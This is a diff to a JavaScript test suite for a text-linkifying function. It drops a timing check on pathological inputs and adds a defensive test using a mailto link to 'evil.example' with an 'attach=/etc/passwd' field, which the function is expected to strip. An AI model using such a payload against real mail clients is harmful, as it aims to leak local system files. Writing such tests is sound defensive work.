@@ -78,7 +78,7 @@ describe('linkifyText', () => {
     ]);
   });
 
-  it('stays linear on hostile input', () => {
+  it('tokenizes hostile input without losing a character', () => {
     const inputs = [
       'a'.repeat(200_000) + '@',
       'a@'.repeat(100_000),
@@ -90,10 +90,17 @@ describe('linkifyText', () => {
       'https://a.example/' + '.'.repeat(200_000) + 'x',
     ];
     for (const input of inputs) {
-      const started = performance.now();
       const tokens = linkifyText(input);
-      expect(performance.now() - started).toBeLessThan(500);
       expect(joined(tokens)).toBe(input);
     }
+  });
+});
+
+describe('linkifyText mailto', () => {
+  it('drops attach fields from linked mailto URLs (payload class 17)', () => {
+    const tokens = linkifyText('write to mailto:a@evil.example?attach=/etc/passwd&subject=hi now');
+    expect(tokens.filter((t) => t.type === 'link').map((t) => t.href)).toEqual([
+      'mailto:a@evil.example?subject=hi',
+    ]);
   });
 });
